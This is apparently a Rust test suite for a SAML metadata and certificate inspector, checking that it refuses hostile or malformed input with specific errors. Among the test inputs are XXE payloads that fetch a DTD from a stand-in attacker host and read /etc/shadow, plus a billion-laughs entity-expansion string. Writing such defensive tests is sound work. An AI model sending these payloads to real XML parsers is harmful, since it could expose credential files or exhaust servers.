//! Hostile metadata and certificates: XXE and DTDs in every encoding the reader accepts, 100 MB
//! inputs, invalid UTF-8 and UTF-16, nesting and attribute limits at their edges, certificates in
//! odd encodings (PEM with junk, DER, base64 with whitespace, PKCS#7) and metadata addresses with
//! control characters or look-alike hosts. Each ends in its specific error, checked by its code
//! and the limit it names, never by a stopwatch.

mod common;

use common::*;
use flex_sso_metadata::fetch::parse_url;
use flex_sso_metadata::{InputError, InputKind, Limits, Report};

/// Checks `bytes` is refused with exactly `error` (its words become the finding's detail).
fn refused(bytes: &[u8], error: InputError) -> Report {
    let report = inspect(bytes);
    assert_eq!(report.input_kind, InputKind::Unreadable, "{:?}", report.findings);
    assert_eq!(report.findings.len(), 1, "{:?}", report.findings);
    assert_eq!(report.findings[0].detail, error.to_string());
    assert_eq!(report.findings[0].title, error.title());
    assert_eq!(report.exit_code(), 2);
    report
}

fn utf16le(text: &str, bom: bool) -> Vec<u8> {
    let body = text.encode_utf16().flat_map(u16::to_le_bytes);
    if bom { [0xFF, 0xFE].into_iter().chain(body).collect() } else { body.collect() }
}

fn okta_metadata() -> String {
    fill(&fixture("okta.xml"), &[("SIGNING", &rsa_expiring_in("Okta", 300).base64())])
}

const XXE: &str = r#"<?xml version="1.0"?><!DOCTYPE md:EntityDescriptor [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"/>"#;

// ---- XXE, DTDs -------------------------------------------------------------------------------

#[test]
fn an_external_parameter_entity_is_refused() {
    refused(XXE.as_bytes(), InputError::DtdForbidden);
}

#[test]
fn an_external_dtd_in_lower_case_is_refused() {
    let xml = r#"<!doctype md:EntityDescriptor system "file:///etc/shadow"><md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"/>"#;
    refused(xml.as_bytes(), InputError::DtdForbidden);
}

#[test]
fn a_dtd_in_utf16_with_and_without_a_bom_is_refused() {
    refused(&utf16le(XXE, true), InputError::DtdForbidden);
    refused(&utf16le(XXE, false), InputError::DtdForbidden);
}

#[test]
fn billion_laughs_in_utf16_big_endian_is_refused() {
    let laughs = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><l>&b;</l>";
    let be: Vec<u8> = [0xFE, 0xFF].into_iter().chain(laughs.encode_utf16().flat_map(u16::to_be_bytes)).collect();
    refused(&be, InputError::DtdForbidden);
}

// ---- size and shape --------------------------------------------------------------------------

#[test]
fn a_100_mb_utf16_file_is_refused_by_its_byte_size() {
    let limit = Limits::default().max_bytes;
    let mut huge = utf16le("<md:EntityDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\">", true);
    huge.resize(100 * 1024 * 1024, 0x20);
    refused(&huge, InputError::TooLarge { size: huge.len(), limit });
}

#[test]
fn a_100_mb_certificate_paste_is_refused_by_the_size_limit() {
    let limit = Limits::default().max_bytes;
    let paste = format!("-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n", "MIIB".repeat(25 * 1024 * 1024));
    refused(paste.as_bytes(), InputError::TooLarge { size: paste.len(), limit });
}

#[test]
fn nesting_at_the_depth_limit_is_read_and_one_more_is_refused() {
    let limit = Limits::default().max_depth;
    let nest = |levels: usize| format!("{}{}", "<a>".repeat(levels), "</a>".repeat(levels));
    refused(nest(limit + 1).as_bytes(), InputError::TooDeep { limit });
    let at_limit = inspect(nest(limit).as_bytes());
    assert_eq!(at_limit.findings[0].code.as_str(), "not_metadata", "read, and found to be something else: {:?}", at_limit.findings);
}

#[test]
fn a_hundred_thousand_attributes_on_one_element_are_refused_before_parsing() {
    let limit = Limits::default().max_attributes;
    let attributes: String = (0..100_000).map(|i| format!(" a{i}=\"\"")).collect();
    let xml = format!("<md:EntityDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\" entityID=\"x\"{attributes}/>");
    refused(xml.as_bytes(), InputError::TooManyAttributes { count: 100_001, limit });
}

// ---- invalid UTF-8 and UTF-16 ----------------------------------------------------------------

#[test]
fn an_overlong_utf8_slash_is_refused_at_its_byte() {
    // C0 AF is "/" written in two bytes: the classic way past a naive path filter.
    refused(b"<md:EntityDescriptor entityID=\"a\xC0\xAF\"/>", InputError::NotUtf8 { offset: 32 });
}

#[test]
fn a_utf8_encoded_surrogate_is_refused() {
    refused(b"<x>\xED\xA0\x80</x>", InputError::NotUtf8 { offset: 3 });
}

#[test]
fn a_lone_utf16_surrogate_is_named_with_its_byte() {
    let mut bytes = utf16le("<md:EntityDescriptor/>", true);
    bytes.splice(6..6, [0x00, 0xD8]); // a high surrogate with no low one, after the BOM and "<m"
    refused(&bytes, InputError::NotUtf16 { offset: 6, problem: "half of a surrogate pair stands alone" });
}

#[test]
fn utf16_cut_in_the_middle_of_a_character_is_named() {
    let mut bytes = utf16le("<md:EntityDescriptor/>", true);
    bytes.pop();
    let offset = bytes.len() - 1;
    refused(&bytes, InputError::NotUtf16 { offset, problem: "the last character has only one of its two bytes" });
}

#[test]
fn utf16_metadata_without_a_bom_is_read_like_with_one() {
    let xml = okta_metadata();
    for bytes in [utf16le(&xml, false), utf16le(&xml, true)] {
        let report = inspect(&bytes);
        assert_eq!(report.input_kind, InputKind::Metadata, "{:?}", report.findings);
        assert_eq!(report.exit_code(), 0, "{:?}", report.findings);
    }
}

#[test]
fn a_nul_inside_utf8_metadata_is_damaged_xml_at_its_place() {
    let xml = okta_metadata().replacen("entityID", "entity\0ID", 1);
    let report = inspect(xml.as_bytes());
    assert_eq!(report.findings[0].title, "The XML is damaged");
}

// ---- certificates in odd encodings -----------------------------------------------------------

#[test]
fn pem_with_junk_around_and_crlf_inside_is_read() {
    let cert = rsa_expiring_in("Junk", 300);
    let pem = cert.pem.replace('\n', "\r\n");
    let paste = format!("Bag Attributes\r\n    friendlyName: idp\r\nsubject=/CN=Junk\r\n{pem}\r\n-- sent from my phone --\r\n");
    let report = inspect(paste.as_bytes());
    assert_eq!(report.input_kind, InputKind::Certificate, "{:?}", report.findings);
    assert_eq!(report.certificates.len(), 1);
}

#[test]
fn a_der_file_is_read_as_a_certificate() {
    let cert = rsa_expiring_in("Der", 300);
    let report = inspect(&cert.der);
    assert_eq!(report.input_kind, InputKind::Certificate, "{:?}", report.findings);
    assert_eq!(report.exit_code(), 0);
}

#[test]
fn base64_with_spaces_tabs_and_newlines_everywhere_is_read() {
    let cert = rsa_expiring_in("Spaces", 300);
    let spaced: String = cert.base64().chars().enumerate().map(|(i, c)| match i % 7 { 0 => format!("{c} "), 3 => format!("{c}\t"), 5 => format!("{c}\n"), _ => c.to_string() }).collect();
    let report = inspect(spaced.as_bytes());
    assert_eq!(report.input_kind, InputKind::Certificate, "{:?}", report.findings);
    // And the same inside metadata, wrapped and indented as some IdPs print it.
    let xml = fill(&fixture("okta.xml"), &[("SIGNING", &cert.base64_wrapped("\t\t  "))]);
    assert_eq!(inspect(xml.as_bytes()).exit_code(), 0);
}

#[test]
fn a_pkcs7_bundle_is_named_in_pem_and_in_der() {
    // The start of a real .p7b: SEQUENCE, then the OID 1.2.840.113549.1.7.2 (signedData).
    let der = [&[0x30, 0x82, 0x01, 0x00][..], &[0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x07, 0x02, 0xA0, 0x82][..]].concat();
    let report = refused(&der, InputError::Pkcs7);
    assert!(report.findings[0].fix.contains("openssl pkcs7 -print_certs"), "{}", report.findings[0].fix);
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &der);
    refused(format!("-----BEGIN PKCS7-----\n{b64}\n-----END PKCS7-----\n").as_bytes(), InputError::Pkcs7);
    // Bare base64 of a bundle, as a console's "copy" button gives it.
    refused(b64.as_bytes(), InputError::Pkcs7);
}

#[test]
fn a_private_key_before_the_certificate_is_refused_without_echoing_it() {
    let cert = rsa_expiring_in("Key", 300);
    let paste = format!("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n{}", cert.pem);
    let report = refused(paste.as_bytes(), InputError::PrivateKey { label: "PRIVATE KEY".into() });
    assert!(!serde_json::to_string(&report).unwrap().contains("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"));
}

// ---- metadata addresses ----------------------------------------------------------------------

#[test]
fn a_metadata_address_with_a_control_character_in_its_host_is_refused() {
    for input in ["https://idp.exa\u{0}mple.com/metadata", "https://idp.exa\u{7}mple.com/metadata"] {
        assert_eq!(parse_url(input).unwrap_err().code(), "fetch_url_invalid", "{input:?}");
    }
}

#[test]
fn control_characters_in_a_metadata_path_are_escaped_not_sent_raw() {
    let url = parse_url("https://idp.example.com/app/\u{1b}[31m/sso/saml/metadata").unwrap();
    assert_eq!(url.path(), "/app/%1B[31m/sso/saml/metadata");
}

#[test]
fn a_look_alike_metadata_host_is_fetched_as_its_punycode_so_the_report_shows_the_difference() {
    // A Cyrillic "о" in "microsoftonline": the address the app would use is not Microsoft's.
    let url = parse_url("https://login.micr\u{43e}softonline.com/common/FederationMetadata/2007-06/FederationMetadata.xml").unwrap();
    assert_eq!(url.host_str(), Some("login.xn--micrsoftonline-yzl.com"));
    assert_ne!(url.host_str(), Some("login.microsoftonline.com"));
}

#[test]
fn an_idn_metadata_host_becomes_its_ascii_form() {
    let url = parse_url("https://idp.bücher.example/metadata").unwrap();
    assert_eq!(url.host_str(), Some("idp.xn--bcher-kva.example"));
}
